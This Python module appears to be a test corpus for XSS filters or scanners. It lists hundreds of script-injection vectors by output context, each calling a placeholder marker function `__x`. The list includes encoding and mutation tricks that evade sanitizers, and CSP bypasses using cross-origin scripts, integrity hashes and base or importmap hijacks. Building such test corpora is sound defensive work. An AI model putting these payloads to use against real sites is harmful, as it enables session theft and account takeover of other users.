"""Ways to run a script in a page, by what has to be printed where. In each, `RUN` stands for a call of `__x`;
where the call has to be encoded, a function makes the vector of it. `ELSEWHERE` is the address of a
script of another site, which makes the call that its query is.

The kinds, and where a template prints them:

  MARKUP     between tags
  ADDRESSES  as the value of `href`, `src`, `action` and their like
  ATTRIBUTES inside a quoted attribute
  TEXTS      inside an element whose content is text: title, textarea, a comment, a style
  SCRIPTS    inside a script of a template: a string, a template literal, a list, a comment
"""
import base64
import hashlib
from urllib.parse import quote


def encoded(text):
    return base64.b64encode(text.encode()).decode()


def references(text, form="&#{}"):
    """The text as character references."""
    return "".join(form.format(ord(letter)) for letter in text)


# A script that another site has. It calls what its address says, wherever it is run.
ELSEWHERE_SCRIPT = "(parent ?? self).__x(/__x\\((\\d+)/.exec(decodeURIComponent(new Error().stack))[1]);\n"
# An attacker can name the hash of a script of theirs.
OWN_HASH = base64.b64encode(hashlib.sha384(ELSEWHERE_SCRIPT.encode()).digest()).decode()

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>"

MARKUP = [
    # script elements
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<script >RUN</script foo>",
    "<script>RUN",
    "<script type=module>RUN</script>",
    "<script type=text/javascript language=x>RUN</script>",
    "<script type=' text/ecmascript '>RUN</script>",
    "<script async defer>RUN</script>",
    "<script nonce=abc>RUN</script>",
    "<script>/*<!--*/RUN//--></script>",
    "<script><!--\nRUN\n--></script>",
    "</p></main></body></html><script>RUN</script>",
    "<script>document.currentScript.after(document.createElement('p'));RUN</script>",
    "<b><script>RUN</script></b",
    "<noscript><p title='</noscript><script>RUN</script>'></noscript>",
    "<textarea></textarea><script>RUN</script>",
    "<template></template><script>RUN</script>",
    "<table><script>RUN</script></table>",
    "<select><script>RUN</script></select>",
    "<!-- --!><script>RUN</script>-->",
    "<![CDATA[><script>RUN</script>]]>",
    "<?x ?><script>RUN</script>",
    "<!x><script>RUN</script>",
    "<script src=data:text/javascript,RUN></script>",
    lambda run: f"<script src=data:text/javascript;base64,{encoded(run)}></script>",
    lambda run: f"<script type=module>import('data:text/javascript,{run}')</script>",
    lambda run: f"<script type=module src='data:text/javascript,{run}'></script>",
    lambda run: f"<script>eval(atob('{encoded(run)}'))</script>",
    lambda run: f"<script>Function(atob('{encoded(run)}'))()</script>",
    lambda run: f"<script>setTimeout(atob('{encoded(run)}'))</script>",
    lambda run: f"<script>import(URL.createObjectURL(new Blob(['{run}'],{{type:'text/javascript'}})))</script>",
    "<script src=/uploads/own.js?RUN></script>",
    "<script src=/uploads/own.js?RUN type=module></script>",
    "<script src=ELSEWHERE?RUN></script>",
    "<script src=ELSEWHERE?RUN async crossorigin></script>",
    "<script type=module src=ELSEWHERE?RUN></script>",
    "<script type=module>import 'ELSEWHERE?RUN'</script>",
    "<script src=ELSEWHERE?RUN integrity=sha384-OWN_HASH crossorigin></script>",
    "<script src=ELSEWHERE?RUN integrity='sha256-AAAA sha384-OWN_HASH' crossorigin></script>",
    "<link rel=modulepreload href=ELSEWHERE?RUN><script type=module src=ELSEWHERE?RUN></script>",
    "<link rel=preload as=script href=ELSEWHERE?RUN><script src=ELSEWHERE?RUN></script>",
    "<svg><script href=ELSEWHERE?RUN></script></svg>",
    "<svg><script xlink:href=ELSEWHERE?RUN /></svg>",
    "<base href=ELSEWHERE/><script src=?RUN></script>",
    "<iframe srcdoc='<script src=ELSEWHERE?RUN></script>'></iframe>",
    "<script src=x: onerror=RUN></script>",
    "<script>onerror=()=>RUN;throw 1</script>",
    "<script>addEventListener('load',()=>RUN)</script>",
    "<script>Promise.resolve().then(()=>RUN)</script>",
    "<script>document.write('<img src=x: onerror=RUN>')</script>",
    "<script>location='javascript:RUN'</script>",
    # pictures and media
    "<img src=x: onerror=RUN>",
    "<img src=x: onerror='RUN'>",
    "<img src=x: onerror=\"RUN\">",
    "<img src=x: onerror=`RUN` onerror=RUN>",
    "<IMG SRC=x: ONERROR=RUN>",
    "<img/src=x:/onerror=RUN>",
    "<img\tsrc=x:\tonerror=RUN>",
    "<img\nsrc=x:\nonerror\n=\nRUN\n>",
    "<img src=x:x\x0conerror=RUN>",
    "<img src onerror=RUN>",
    "<img src=x: onerror=RUN//",
    "<img src=x: onerror=RUN <p>",
    "<<img src=x: onerror=RUN>",
    "<a<img src=x: onerror=RUN>><img src=x: onerror=RUN>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload=RUN>",
    "<img srcset=x: onerror=RUN>",
    "<picture><source srcset=x:><img onerror=RUN src=x:></picture>",
    "<image src=x: onerror=RUN>",
    "<video src=x: onerror=RUN></video>",
    "<audio src=x: onerror=RUN></audio>",
    "<video><source src=x: onerror=RUN></video>",
    "<video poster=x: onloadstart=RUN src=x:></video>",
    "<audio controls oncanplay=RUN src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA=></audio>",
    "<input type=image src=x: onerror=RUN>",
    "<object data=x: onerror=RUN></object>",
    "<embed src=x: onload=RUN onerror=RUN>",
    "<link rel=stylesheet href=x: onerror=RUN>",
    "<style onload=RUN></style>",
    "<style>@import 'x:';</style><style onload=RUN></style>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<body onhashchange=RUN>",
    # handlers that want something done
    "<div onclick=RUN>x</div>",
    "<div onmouseover=RUN>x</div>",
    "<div onpointerenter=RUN>x</div>",
    "<div onwheel=RUN>x</div>",
    "<div ondblclick=RUN oncontextmenu=RUN>x</div>",
    "<div draggable=true ondragstart=RUN>x</div>",
    "<div contenteditable onblur=RUN oninput=RUN onpaste=RUN>x</div>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>x</select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<button autofocus onfocus=RUN>x</button>",
    "<a href=# autofocus onfocus=RUN>x</a>",
    "<p tabindex=0 autofocus onfocus=RUN>x</p>",
    "<xss tabindex=1 autofocus onfocusin=RUN>x</xss>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<details ontoggle=RUN><summary>x</summary></details>",
    "<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle=RUN>x</div>",
    "<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>",
    "<form onsubmit=RUN,event.preventDefault()><button>x</button></form>",
    "<form><input required oninvalid=RUN><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:RUN>x</button>",
    "<marquee onstart=RUN>x</marquee>",
    "<div style=animation:spin onanimationstart=RUN>x</div>",
    "<style>@keyframes k{}</style><div style='animation:k 1s' onanimationstart=RUN>x</div>",
    "<div style='transition:outline 1s' ontransitionend=RUN tabindex=0>x</div>",
    "<div onscroll=RUN style='overflow:auto;height:9px'><br><br><br>x</div>",
    "<custom-element onclick=RUN>x</custom-element>",
    lambda run: f"<img src=x: onerror={references(run)}>",
    lambda run: f"<img src=x: onerror={references(run, '&#x{:x};')}>",
    lambda run: f"<img src=x: onerror={references(run, '&#00000{};')}>",
    lambda run: f"<img src=x: onerror=eval(atob('{encoded(run)}'))>",
    lambda run: f"<img src=x: onerror=window[atob('{encoded('__x')}')]({run[4:-1]})>",
    lambda run: f"<img src=x: onerror=\\u005f_x({run[4:-1]})>",
    # frames
    "<iframe onload=RUN></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe srcdoc='<img src=x: onerror=parent.RUN>'></iframe>",
    "<iframe srcdoc='&lt;svg onload=parent.RUN&gt;'></iframe>",
    "<iframe srcdoc=\"<iframe srcdoc='<svg onload=top.RUN>'></iframe>\"></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>RUN</script>'></iframe>",
    "<iframe csp=\"script-src 'unsafe-inline'\" srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    lambda run: f"<iframe src='data:text/html;base64,{encoded('<script>' + run + '</script>')}'></iframe>",
    "<iframe src=/uploads/own.svg?RUN></iframe>",
    "<object data=/uploads/own.svg?RUN type=image/svg+xml></object>",
    "<embed src=/uploads/own.svg?RUN type=image/svg+xml>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    lambda run: f"<object data='data:text/html;base64,{encoded('<script>' + run + '</script>')}'></object>",
    "<frameset onload=RUN><frame src=x:></frameset>",
    "<portal src=javascript:RUN onload=RUN></portal>",
    # links and forms
    "<a href=javascript:RUN>x</a>",
    "<a href=JaVaScRiPt:RUN>x</a>",
    "<a href='java\tscript:RUN'>x</a>",
    "<a href='java&Tab;script&colon;RUN'>x</a>",
    "<a href='&#1;javascript:RUN'>x</a>",
    "<a href='  javascript:RUN'>x</a>",
    "<a href='javascript://%0aRUN'>x</a>",
    "<map name=m><area shape=default href=javascript:RUN></map><img usemap=#m>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<form><button formaction=javascript:RUN>x</button></form>",
    "<form><input type=submit formaction=javascript:RUN value=x></form>",
    "<form><input type=image formaction=javascript:RUN></form>",
    "<base href=javascript:/a/><a href=../RUN>x</a>",
    "<base href='data:text/javascript,RUN//'><script src=x.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>RUN</script>",
    "<link rel=modulepreload href=/uploads/own.js><script type=module src=/uploads/own.js?RUN></script>",
    "<script type=importmap>{\"imports\":{\"m\":\"/uploads/own.js?RUN\"}}</script><script type=module>import 'm'</script>",
    # SVG and MathML
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script>&#x52;</script><script href=data:text/javascript,RUN /></svg>",
    "<svg><script xlink:href=data:text/javascript,RUN></script></svg>",
    lambda run: f"<svg><script>{references(run, '&#{};')}</script></svg>",
    "<svg><g onload=RUN></g></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><set onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><animateTransform onbegin=RUN attributeName=transform dur=1s></svg>",
    "<svg><animate onend=RUN attributeName=x dur=.01s></svg>",
    "<svg><a href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:RUN /><text y=20>x</text></a></svg>",
    "<svg><image href=x: onerror=RUN></svg>",
    "<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>",
    "<svg><style onload=RUN></style></svg>",
    "<svg><discard onbegin=RUN></svg>",
    "<svg><circle r=9 onclick=RUN></svg>",
    lambda run: f"<svg><use href='data:image/svg+xml,{quote(SVG.replace('RUN', run))}#x'></svg>",
    lambda run: f"<img src='data:image/svg+xml,{quote(SVG.replace('RUN', run))}'>",
    lambda run: f"<iframe src='data:image/svg+xml,{quote(SVG.replace('RUN', run))}'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x: onerror=RUN></style></mglyph></table></mtext></math>",
    "<math><a href=javascript:RUN xlink:href=javascript:RUN>x</a></math>",
    "<math href=javascript:RUN><mi>x</mi></math>",
    "<svg></p><style><a id='</style><img src=x: onerror=RUN>'></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>",
    "<noscript><style></noscript><img src=x: onerror=RUN></style></noscript>",
    "<div><template shadowrootmode=open><img src=x: onerror=RUN><script>RUN</script></template></div>",
]

ADDRESSES = [
    "javascript:RUN",
    "JAVASCRIPT:RUN",
    "java&#10;script:RUN",
    "java&#9;script&#58;RUN",
    "&#x6A;avascript:RUN",
    "&#2;&#20; javascript:RUN",
    "javascript:/*x*/RUN",
    "javascript://x%0ARUN",
    "javascript:%52=1;RUN",
    lambda run: f"javascript:{quote(run, safe='')}",
    lambda run: f"javascript:eval(atob('{encoded(run)}'))",
    "javascript:'<script>RUN</script>'",
    "data:text/html,<script>RUN</script>",
    "data:text/html,<svg onload=RUN>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "vbscript:RUN",
    "view-source:javascript:RUN",
    "/uploads/own.svg?RUN",
    "x:&quot; onerror=RUN",
]

ATTRIBUTES = [
    "\" onmouseover=RUN x=\"",
    "\" autofocus tabindex=0 onfocus=RUN x=\"",
    "\"><script>RUN</script>",
    "\"><img src=x: onerror=RUN>",
    "\"><svg onload=RUN>",
    "\" style=animation:x onanimationstart=RUN onclick=RUN x=\"",
    "\"onclick=\"RUN",
    "\"/onclick=RUN//",
]

TEXTS = [
    "</title><script>RUN</script>",
    "</title><img src=x: onerror=RUN>",
    "</textarea><svg onload=RUN>",
    "--><script>RUN</script>",
    "--!><img src=x: onerror=RUN>",
    "</style><script>RUN</script>",
    "</style><img src=x: onerror=RUN>",
    "</noscript><svg onload=RUN>",
    "]]></script><script>RUN</script>",
    "</template></svg></math></select><script>RUN</script>",
]

SCRIPTS = [
    "\";RUN;\"",
    "\"+RUN+\"",
    "\"-RUN//",
    "\\\";RUN//",
    "\\\\\";RUN//",
    "`;RUN;`",
    "${RUN}",
    "\\\\${RUN}",
    "RUN",
    "1];RUN;[",
    "{\"a\":RUN}",
    "{get a(){},b:RUN}",
    "\nRUN\n",
    "\u2028RUN\u2028",
    "\\\nRUN",
    "</script><script>RUN</script>",
    "</script ><img src=x: onerror=RUN>",
    "<!--<script>\";RUN//-->",
    "*/RUN/*",
    "\\u0022;RUN//",
]

KINDS = {"markup": MARKUP, "address": ADDRESSES, "attribute": ATTRIBUTES, "text": TEXTS, "script": SCRIPTS}


def written(vector, run, elsewhere=""):
    """The vector with its call."""
    text = vector(run) if callable(vector) else vector.replace("RUN", run)
    return text.replace("OWN_HASH", OWN_HASH).replace("ELSEWHERE", elsewhere)
